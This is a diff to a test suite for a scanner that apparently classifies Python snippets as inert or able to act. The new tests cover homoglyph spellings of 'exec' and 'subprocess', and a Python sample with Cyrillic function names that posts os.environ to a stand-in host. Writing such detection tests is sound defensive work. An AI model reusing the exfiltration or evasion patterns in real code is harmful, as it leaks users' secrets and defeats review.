@@ -31,10 +31,30 @@ describe('modules that cannot act', () => {
     for (const text of ['import subprocess', 'import os; os.system', 'exec("")', 'getattr(x, "a" + "b")', 'URL = "https://example.org"', 'A = "\\x65\\x78"']) assert.equal(isInert(text, DEFAULT_CATALOG), false, text);
   });
 
+  it('are not those that write its name in other letters', () => {
+    for (const text of ['ｅｘｅｃ("")', 'import ｓubprocess']) assert.equal(isInert(text, DEFAULT_CATALOG), false, text);
+  });
+
   it('are silent in every suite, though they be interpreted', () => {
     const inert = blocks.filter(({ text }) => isInert(text, DEFAULT_CATALOG));
     assert.ok(inert.length > 20, `${inert.length} of ${blocks.length}`);
     // A comment that names a module is enough to have it interpreted.
     for (const { name, text } of inert) assert.deepEqual(findingsOf(`${text}\n# subprocess\n`), [], `${name}\n${text}`);
+  });
+
+  it('have functions that are run for constants alone, which loses nothing in any suite', () => {
+    // Naming a module makes a function one that may act, so that every call of it is run.
+    const acting = (text: string): string => text.replace(/^([ \t]*(?:async )?def .*:)[ \t]*$/gm, '$1  # subprocess');
+    let changed = 0;
+    for (const { name, text } of blocks) {
+      if (acting(text) === text) continue;
+      changed++;
+      assert.deepEqual(findingsOf(text), findingsOf(acting(text)), `${name}\n${text}`);
+    }
+    assert.ok(changed > 100, `${changed} of ${blocks.length}`);
+  }).timeout(120_000);
+
+  it('follow names that are not in Latin letters', () => {
+    assert.deepEqual(findingsOf('import os, requests\n\ndef отправить(данные):\n    requests.post("https://example.org/in", json=данные)\n\ndef вечером(что):\n    отправить([что])\n\ndef ночью():\n    вечером(dict(os.environ))\n').map((one) => one.split(' ')[0]), ['data-exfiltration']);
   });
 });
